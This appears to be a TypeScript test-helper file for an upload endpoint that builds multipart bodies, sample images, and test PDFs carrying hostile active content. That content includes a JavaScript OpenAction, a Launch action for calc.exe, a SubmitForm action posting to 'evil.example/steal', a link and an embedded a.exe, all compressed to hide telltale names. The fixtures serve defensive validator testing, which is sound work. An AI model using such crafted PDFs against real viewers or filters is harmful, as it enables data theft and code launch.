import { randomBytes } from 'node:crypto';
import type { EndpointDef } from '@vip/contract';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import sharp from 'sharp';
import { injectCall, type TestApi } from '../../../test/helpers';

/** A multipart/form-data body with one file part (as a browser's FormData sends it). */
export function multipart(bytes: Buffer, filename = 'receipt.jpg', type = 'image/jpeg', field = 'file') {
  const boundary = `----vip${randomBytes(8).toString('hex')}`;
  const head = Buffer.from(
    `--${boundary}\r\nContent-Disposition: form-data; name="${field}"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n`,
  );
  const tail = Buffer.from(`\r\n--${boundary}--\r\n`);
  return { payload: Buffer.concat([head, bytes, tail]), contentType: `multipart/form-data; boundary=${boundary}` };
}

/** Sends a file to an upload endpoint (PUT …/attachment) as the member. */
export function upload(
  api: () => TestApi,
  endpoint: EndpointDef,
  id: number,
  token: string | undefined,
  file: ReturnType<typeof multipart>,
) {
  return injectCall(
    api().app,
    endpoint,
    { params: { id }, token, body: file.payload },
    {
      'content-type': file.contentType,
    },
  );
}

/** A small real image of the given type. */
export function testImage(format: 'png' | 'jpeg' | 'webp' = 'png', size = 64) {
  return sharp({ create: { width: size, height: size, channels: 3, background: { r: 200, g: 160, b: 40 } } })
    [format]()
    .toBuffer();
}

/** Kinds of active content a hostile PDF can carry. */
export const ACTIVE_PDF_KINDS = ['javascript', 'uri', 'launch', 'submit-form', 'embedded-file'] as const;
export type ActivePdfKind = (typeof ACTIVE_PDF_KINDS)[number];

/**
 * A real one-page PDF made by pdf-lib; with `active`, that content is added, and with `objectStreams` (the default)
 * every dictionary is saved inside a Flate-compressed object stream, so no telltale name is in the file's bytes.
 */
export async function testPdf(active?: ActivePdfKind, objectStreams = true): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([300, 200]);
  page.drawText('Receipt 1405', { x: 20, y: 150, size: 18 });
  const ctx = doc.context;
  const action = (dict: Record<string, unknown>) =>
    doc.catalog.set(PDFName.of('OpenAction'), ctx.register(ctx.obj(dict as never)));
  if (active === 'javascript') action({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert(1)') });
  if (active === 'launch') action({ Type: 'Action', S: 'Launch', F: PDFString.of('calc.exe') });
  if (active === 'submit-form') {
    action({ Type: 'Action', S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of('https://evil.example/steal') } });
  }
  if (active === 'uri') {
    const link = ctx.obj({
      Type: 'Annot',
      Subtype: 'Link',
      Rect: [0, 0, 300, 200],
      A: { S: 'URI', URI: PDFString.of('https://evil.example/') },
    });
    page.node.set(PDFName.of('Annots'), ctx.obj([ctx.register(link)]));
  }
  if (active === 'embedded-file') {
    // The file's stream has no /Type (it is optional): only the compressed dictionaries say what it is.
    const file = ctx.register(ctx.flateStream(Buffer.from('MZ not really a program')));
    const spec = ctx.register(ctx.obj({ Type: 'Filespec', F: PDFString.of('a.exe'), EF: { F: file } }));
    const tree = ctx.obj({ Names: [PDFString.of('a.exe'), spec] });
    doc.catalog.set(PDFName.of('Names'), ctx.obj({ EmbeddedFiles: tree }));
  }
  return Buffer.from(await doc.save({ useObjectStreams: objectStreams }));
}
